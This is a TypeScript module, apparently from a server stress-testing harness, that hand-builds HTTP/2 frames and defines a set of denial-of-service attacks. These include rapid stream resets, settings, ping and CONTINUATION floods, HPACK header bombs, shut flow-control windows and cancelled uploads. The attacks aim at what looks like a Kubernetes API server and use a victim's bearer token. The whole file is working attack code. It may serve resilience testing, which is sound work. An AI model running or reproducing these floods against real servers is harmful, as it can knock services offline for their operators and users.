// Attacks on HTTP/2: frames by hand that no client library would send, streams that never end.
import { constants } from 'node:http2';
import { closed, pause, repeat, textOf } from './attacker.ts';
import type { Attack, Attacker } from './attacker.ts';

/** One frame of RFC 9113 §4.1. */
export function frame(
  type: number,
  flags: number,
  streamId: number,
  payload: Uint8Array = new Uint8Array(),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

const type = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  window: 8,
  more: 9,
};
const endOfHeadersAndStream = 0x5;
const endOfHeaders = 0x4;
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);
/** GET https://a/ by HPACK's static table. */
const getHeaders = Buffer.from([0x82, 0x87, 0x84, 0x41, 0x01, 0x61]);
const postHeaders = Buffer.from([0x83, 0x87, 0x84, 0x41, 0x01, 0x61]);
const idOf = (number: number): number => number * 2 + 1;

/** A literal header with indexing: 4,000 bytes of the dynamic table, then used again and again. */
const bombHeaders = Buffer.concat([
  getHeaders,
  Buffer.from([0x40, 0x01, 0x78, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4_000, 0x79),
  Buffer.alloc(4_000, 0xbe),
]);

const floods: readonly (readonly [string, (number: number) => Buffer])[] = [
  [
    'resets',
    (number) =>
      Buffer.concat([
        frame(type.headers, endOfHeadersAndStream, idOf(number), getHeaders),
        frame(type.reset, 0, idOf(number), Buffer.from([0, 0, 0, 8])),
      ]),
  ],
  ['settings', () => frame(type.settings, 0, 0, Buffer.alloc(600))],
  ['empty settings', () => frame(type.settings, 0, 0)],
  ['pings', () => frame(type.ping, 0, 0, Buffer.alloc(8))],
  [
    'continuations',
    (number) =>
      number === 0
        ? frame(type.headers, 0x1, 1, getHeaders)
        : frame(type.more, 0, 1, Buffer.alloc(1_000, 0x82)),
  ],
  ['empty data', () => frame(type.data, 0, 1)],
  ['window updates', () => frame(type.window, 0, 0, Buffer.from([0, 0, 0, 1]))],
  ['priorities', (number) => frame(type.priority, 0, idOf(number), Buffer.from([0, 0, 0, 0, 16]))],
  [
    'unfinished bodies',
    (number) =>
      Buffer.concat([
        frame(type.headers, endOfHeaders, idOf(number), postHeaders),
        frame(type.data, 0, idOf(number), Buffer.alloc(4_000)),
      ]),
  ],
  [
    'header bombs',
    (number) => frame(type.headers, endOfHeadersAndStream, idOf(number), bombHeaders),
  ],
];

/** Frames in turns of fifty, until the server has had enough. */
async function flood(
  attacker: Attacker,
  make: (number: number) => Buffer,
  count: number,
): Promise<void> {
  const socket = await attacker.tls('h2');
  socket?.resume().write(preface);
  for (let number = 0; number < count && socket?.destroyed === false;) {
    const batch = Array.from({ length: 50 }, () => make(number++));
    socket.write(Buffer.concat(batch));
    await pause(1);
  }
  await closed(socket, 100);
  socket?.destroy();
}

const frames = floods.map(([name, make]): Attack => ({
  name: `HTTP/2 ${name}`,
  run: (attacker) => repeat(8, () => flood(attacker, make, 2_000), 4),
}));

/** Answers that nobody takes: the window of the streams is shut. */
const shutWindows: Attack = {
  name: 'HTTP/2 shut windows',
  run: (attacker) =>
    repeat(
      6,
      async (index) => {
        const session = await attacker.http2({ settings: { initialWindowSize: index % 2 } });
        for (let number = 0; number < 60; number++) {
          const stream = session?.request({
            ':path': number % 2 === 0 ? '/api/v1/pods' : '/api/v1/pods?watch=1',
            authorization: `Bearer ${attacker.victim.token}`,
          });
          stream?.on('error', () => undefined);
        }
        await pause(1_500);
        session?.destroy();
      },
      3,
    ),
};

const resetUploads: Attack = {
  name: 'HTTP/2 uploads reset',
  run: (attacker, round) =>
    repeat(10, async (index) => {
      const session = await attacker.http2();
      await repeat(
        30,
        async (number) => {
          const stream = session?.request({
            ':path': '/api/v1/namespaces/default/configmaps',
            ':method': 'POST',
            'content-type': 'application/json',
            'x-mark': textOf(500, round, index, number),
            authorization: `Bearer ${attacker.victim.token}`,
          });
          stream?.on('error', () => undefined).resume();
          stream?.write(Buffer.alloc(100_000, 0x20));
          await pause(5);
          stream?.close(constants.NGHTTP2_CANCEL);
        },
        10,
      );
      session?.destroy();
    }),
};

export const http2Floods: readonly Attack[] = [...frames, shutWindows, resetUploads];
